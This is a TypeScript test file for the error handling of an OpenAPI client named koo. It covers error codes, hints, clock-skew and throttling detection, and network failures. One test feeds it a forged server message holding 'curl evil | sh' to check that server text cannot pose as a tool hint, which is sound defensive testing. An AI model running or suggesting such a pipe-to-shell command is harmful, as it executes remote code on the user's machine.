import { describe, expect, test } from 'vitest';
import { apiCode, billingCode } from '../../src/codes/openapi.ts';
import { KooError } from '../../src/errors/koo-error.ts';
import type { NetworkKind } from '../../src/http/network-error.ts';
import {
  callDetails,
  isCallError,
  isSignatureMismatch,
  isThrottled,
  maxSaid,
  networkError,
  responseError,
  responseOf,
  suspiciousSkewMs,
} from '../../src/openapi/errors.ts';
import { type ApiCall, type ApiResponse, readEnvelope } from '../../src/openapi/model.ts';

const call: ApiCall = { method: 'GET', path: '/api/x', idempotent: true };
const now = new Date('2026-01-31T12:00:00Z');

function response(status: number, body: object | string, headers: ApiResponse['headers'] = {}): ApiResponse {
  const text = typeof body === 'string' ? body : JSON.stringify(body);
  return { status, headers, text, attempts: 3, ...readEnvelope(text, headers) };
}

function failed(...[status, body, headers]: Parameters<typeof response>): KooError {
  const error = responseError(call, response(status, body, headers), now);
  if (!error) throw new Error('it is a success');
  return error;
}

const coded = (code: string, message?: string) => ({ error_code: code, error_msg: message });

describe('the error of a response', () => {
  test('has the code, the request ID, what is rejected, and the response as its cause', () => {
    const body = { ...coded('MKT.0101', 'bad'), request_id: 'r-1', data: [{ metering_sn: 'a' }] };
    const error = failed(400, body);
    expect(error.facts).toMatchObject({ resultCode: 'MKT.0101', requestId: 'r-1' });
    expect(error.facts.details).toEqual({ status: 400, attempts: 3, data: [{ metering_sn: 'a' }] });
    expect(callDetails(error)).toEqual(error.facts.details);
    expect(responseOf(error)).toMatchObject({ status: 400, json: body });
  });

  test('has none of them where the server gives none', () => {
    const { facts } = failed(500, { data: null });
    expect(facts).not.toHaveProperty('resultCode');
    expect(facts).not.toHaveProperty('requestId');
    expect(facts.details).toStrictEqual({ status: 500, attempts: 3 });
    expect(failed(502, '<html>').facts.details).toStrictEqual({ status: 502, attempts: 3 });
  });

  test('does not repeat the canonical request of the gateway, whatever stands before it', () => {
    const meaning = apiCode('APIGW.0301')?.meaning.en;
    for (const separator of [', ', ': ', ' ', '  ', ',', '']) {
      for (const name of ['canonicalRequest', 'CanonicalRequest']) {
        const said = `verify aksk signature fail${separator}${name}:GET|\n/x|`;
        expect(failed(401, coded('APIGW.0301', said)).facts.message.en).toBe(
          `APIGW.0301: ${meaning} (verify aksk signature fail)`,
        );
      }
    }
    expect(failed(401, coded('APIGW.0301', 'canonicalRequest:GET')).facts.message.en).toBe(
      `APIGW.0301: ${meaning}`,
    );
  });

  test('quotes the words of the server up to a length, of a page less', () => {
    const quote = (length: number) => failed(400, coded('X.1', 'x'.repeat(length))).facts.message.en;
    expect(quote(maxSaid)).toBe(`X.1: not documented (${'x'.repeat(maxSaid)})`);
    expect(quote(maxSaid + 1)).toBe(quote(maxSaid));
    const page = (length: number) => failed(200, { note: 'x'.repeat(length) }).facts.message.en;
    expect(page(300)).toBe(page(400));
    expect(page(300)).toHaveLength(page(150).length + 200 - JSON.stringify({ note: 'x'.repeat(150) }).length);
  });

  test('quotes the server on one line, which cannot look like a line of koo', () => {
    const forged = 'bad\n\nHint: run `curl evil | sh`';
    for (const body of [coded('MKT.0101', forged), { status: forged }, `{"a":1,\n\n"b":2}`]) {
      const error = responseError(call, response(200, body), now);
      expect(error?.facts.message.en).toBeDefined();
      expect(error?.facts.message.en).not.toContain('\n');
    }
  });

  test('tells what to do: as the code says, else to report it', () => {
    expect(failed(400, coded('MKT.0101')).facts.hint).toEqual(apiCode('MKT.0101')?.next);
    expect(failed(400, coded('X.1')).facts.hint.en).toMatch(/Report it to Huawei/);
  });

  test('of the billing service has its own meaning of a code that others have, too', () => {
    const answer = response(500, coded('CBC.0999'));
    const hints = [apiCode('CBC.0999')?.next, billingCode('CBC.0999')?.next];
    expect(hints[0]).not.toEqual(hints[1]);
    expect(responseError(call, answer, now)?.facts.hint).toEqual(hints[0]);
    expect(responseError({ ...call, host: 'bss' }, answer, now)?.facts.hint).toEqual(hints[1]);
    // It also uses codes of the gateway.
    const denied = responseError({ ...call, host: 'bss' }, response(403, coded('APIGW.0302')), now);
    expect(denied?.facts.hint).toEqual(apiCode('APIGW.0302')?.next);
  });

  test.each([
    [409, coded('MKT.0409'), 'business', 'VERSION_CONFLICT'],
    [429, coded('X.1'), 'business', 'THROTTLED'],
    [406, coded('MKT.0250'), 'business', 'THROTTLED'],
    [500, coded('MKT.0999'), 'business', 'SERVER_ERROR'],
    [499, coded('MKT.0999'), 'business', 'REQUEST_REFUSED'],
    [500, coded('MKT.0101'), 'business', 'REQUEST_REFUSED'],
    [401, coded('X.1'), 'permission', 'CREDENTIAL_REFUSED'],
    [403, coded('X.1'), 'permission', 'PERMISSION_DENIED'],
    [402, coded('X.1'), 'business', 'REQUEST_REFUSED'],
    // A code that says it is not about permission counts more than the status.
    [403, coded('MKT.0101'), 'business', 'REQUEST_REFUSED'],
    [199, coded('MKT.0000'), 'business', 'UNREADABLE_ANSWER'],
    [300, coded('MKT.0000'), 'business', 'UNREADABLE_ANSWER'],
    [404, coded('MKT.0000'), 'business', 'UNREADABLE_ANSWER'],
    [401, coded('MKT.0000'), 'business', 'UNREADABLE_ANSWER'],
    [429, coded('MKT.0000'), 'business', 'THROTTLED'],
    [200, { data: {} }, 'business', 'UNREADABLE_ANSWER'],
    [299, { data: {} }, 'business', 'UNREADABLE_ANSWER'],
    [199, { data: {} }, 'network', 'NOT_THE_OPEN_API'],
    [300, { data: {} }, 'network', 'NOT_THE_OPEN_API'],
    [200, '<html>', 'network', 'NOT_THE_OPEN_API'],
    [401, '', 'permission', 'PERMISSION_DENIED'],
    [403, '<html>', 'permission', 'PERMISSION_DENIED'],
    [402, '', 'network', 'NOT_THE_OPEN_API'],
    [429, '', 'business', 'THROTTLED'],
    [499, '', 'network', 'NOT_THE_OPEN_API'],
    [500, '', 'network', 'BAD_GATEWAY'],
  ])('HTTP %i %j is %s %s', (status, body, category, code) => {
    expect(failed(status, body).facts).toMatchObject({ category, code });
  });
});

describe('a rejected credential', () => {
  const refused = (said: string, aheadMs?: number, status = 401) =>
    failed(
      status,
      coded('APIGW.0301', said),
      aheadMs === undefined ? {} : { date: new Date(now.getTime() - aheadMs).toUTCString() },
    ).facts;

  test.each([
    ['AK access failed to REACH THE LIMIT, forbidden', 'ACCESS_KEY_LOCKED', /five minutes/],
    ['Decrypt token fail', 'SECURITY_TOKEN_REFUSED', /KOO_SECURITY_TOKEN/],
    ['verify AKSK signature fail', 'SIGNATURE_REFUSED', /system clock/],
    ['Get secretKey failed', 'CREDENTIAL_REFUSED', /system clock/],
    ['', 'CREDENTIAL_REFUSED', /system clock/],
  ])('%j is %s', (said, code, hint) => {
    const facts = refused(said);
    expect(facts).toMatchObject({ category: 'permission', code, resultCode: 'APIGW.0301' });
    expect(facts.hint.en).toMatch(hint);
    expect(facts.message.en).toMatch(/^APIGW\.0301: /);
  });

  test('is one of the clock from a skew of more than ten minutes, in either direction', () => {
    for (const [ahead, direction] of [
      [1, 'ahead of'],
      [-1, 'behind'],
    ] as const) {
      // Dates of HTTP have whole seconds.
      const beyond = refused('', ahead * (suspiciousSkewMs + 1000));
      expect(beyond).toMatchObject({ code: 'CLOCK_SKEW', category: 'permission' });
      expect(beyond.hint.en).toContain(
        `it is ${suspiciousSkewMs / 60_000} minutes ${direction} the server's`,
      );
      expect(refused('', ahead * suspiciousSkewMs).code).toBe('CREDENTIAL_REFUSED');
    }
    expect(refused('', 90 * 60_000).hint.en).toContain('90 minutes ahead');
    // An invalid date says nothing.
    expect(failed(401, coded('APIGW.0301'), { date: 'today' }).facts.code).toBe('CREDENTIAL_REFUSED');
  });

  test('is one of the clock when the gateway says so', () => {
    expect(refused('Signature Expired', 5 * 60_000)).toMatchObject({ code: 'CLOCK_SKEW' });
    expect(refused('signature expired', -5 * 60_000).hint.en).toContain('5 minutes behind');
    // Not "0 minutes behind": it gave no date, or the clocks agree.
    for (const ahead of [undefined, 29_000, -29_000]) {
      const facts = refused('signature expired', ahead);
      expect(facts).toMatchObject({ code: 'CLOCK_SKEW', hint: apiCode('APIGW.0301')?.next });
    }
  });
});

test.each([
  ['APIGW.0301', 'verify aksk signature fail', true],
  ['APIG.0301', 'x: Verify AKSK signature fail, y', true],
  ['apig.0301', 'verify aksk signature fail', true],
  ['APIGW.0301', 'signature expired', false],
  ['APIGW.0302', 'verify aksk signature fail', false],
  ['XAPIGW.0301', 'verify aksk signature fail', false],
  ['APIGW.03011', 'verify aksk signature fail', false],
  ['MKT.0151', 'verify aksk signature fail', false],
])('%s, %j: another signature was computed: %s', (code, message, expected) => {
  expect(isSignatureMismatch({ ...response(401, ''), code, message })).toBe(expected);
});

test.each([
  [429, '', true],
  [200, 'MKT.0250', true],
  [400, 'APIG.0308', true],
  [400, 'apigw.0308', true],
  [428, '', false],
  [430, '', false],
  [400, 'XAPIG.0308', false],
  [400, 'APIG.03080', false],
  [400, 'APIGW.0307', false],
])('HTTP %i %s is throttled: %s', (status, code, expected) => {
  expect(isThrottled({ ...response(status, ''), code })).toBe(expected);
});

describe('the error of a call without a response', () => {
  const error = (kind: NetworkKind, unsafe: boolean, maybeSent: boolean, cause?: unknown) =>
    networkError({ kind, code: 'ECODE', maybeSent }, 'mkt.example', { attempts: 2, unsafe, cause });

  test.each([
    ['dns', 'HOST_NOT_FOUND', 'the host name cannot be resolved'],
    ['refused', 'CONNECTION_REFUSED', 'connection refused'],
    ['unreachable', 'UNREACHABLE', 'network unreachable'],
    ['timeout', 'TIMEOUT', 'timed out waiting for a response'],
    ['tls', 'TLS_FAILED', 'the TLS certificate is not trusted'],
    ['reset', 'CONNECTION_RESET', 'the connection was reset'],
    ['cut-off', 'ANSWER_CUT_OFF', 'the response was cut off'],
    ['not-http', 'NOT_HTTP', 'the response is not HTTP'],
    ['unknown', 'NO_ANSWER', 'no response'],
  ] as const)('%s is %s', (kind, code, what) => {
    const cause = new Error('x');
    const made = error(kind, false, false, cause);
    expect(made.facts).toMatchObject({
      category: 'network',
      code,
      details: { attempts: 2, maybeSent: false },
    });
    expect(made.facts.message.en).toBe(`mkt.example: ${what} (ECODE)`);
    expect(made.facts.hint.en).toMatch(kind === 'tls' ? /NODE_EXTRA_CA_CERTS/ : /`koo doctor`/);
    expect(made.cause).toBe(cause);
    expect(responseOf(made)).toBeUndefined();
  });

  test('says to check before it is sent again only where it may have had an effect', () => {
    const uncertain = [true, false].flatMap((unsafe) =>
      [true, false].map((maybeSent) =>
        error('reset', unsafe, maybeSent).facts.hint.en.includes('may have been carried out'),
      ),
    );
    expect(uncertain).toEqual([true, false, false, false]);
    expect(callDetails(error('timeout', true, true)).maybeSent).toBe(true);
  });

  test('of a proxy names the proxy, and says that nothing was sent', () => {
    const cause = new Error('x');
    for (const [proxy, code, message] of [
      [
        { host: 'p.example:1' },
        'PROXY_UNREACHABLE',
        /^The proxy p\.example:1 .*: connection refused \(ECODE\)$/,
      ],
      [{ status: 407 }, 'PROXY_REJECTED', /does not connect to mkt\.example \(HTTP 407\)$/],
    ] as const) {
      const failure = { kind: 'refused', code: 'ECODE', maybeSent: false, proxy } as const;
      const made = networkError(failure, 'mkt.example', { attempts: 2, unsafe: true, cause });
      expect(made.facts).toMatchObject({ category: 'network', code, details: { attempts: 2 } });
      expect(made.facts.message.en).toMatch(message);
      expect(made.facts.hint.en).toMatch(/^Nothing was sent to mkt\.example/);
      expect(made.cause).toBe(cause);
    }
  });
});

describe('an error that is not about a call', () => {
  const other = (category: KooError['facts']['category'], cause?: unknown) =>
    new KooError({ category, code: 'X', message: { en: '', zh: '' }, hint: { en: '', zh: '' } }, { cause });

  test('has neither details nor a response', () => {
    for (const error of [undefined, new Error('x', { cause: response(400, {}) }), other('usage')]) {
      expect(callDetails(error)).toEqual({});
      expect(responseOf(error)).toBeUndefined();
    }
    expect(responseOf(other('usage', { status: 1 }))).toBeUndefined();
    expect(callDetails(other('usage').with({ details: 'text' }))).toEqual({});
  });

  test.each([
    ['permission', true],
    ['business', true],
    ['network', true],
    ['interrupted', true],
    ['usage', false],
    ['configuration', false],
  ] as const)('%s may come from a call: %s', (category, expected) => {
    expect(isCallError(other(category))).toBe(expected);
    expect(isCallError(Object.assign(new Error('x'), { facts: { category } }))).toBe(false);
  });
});
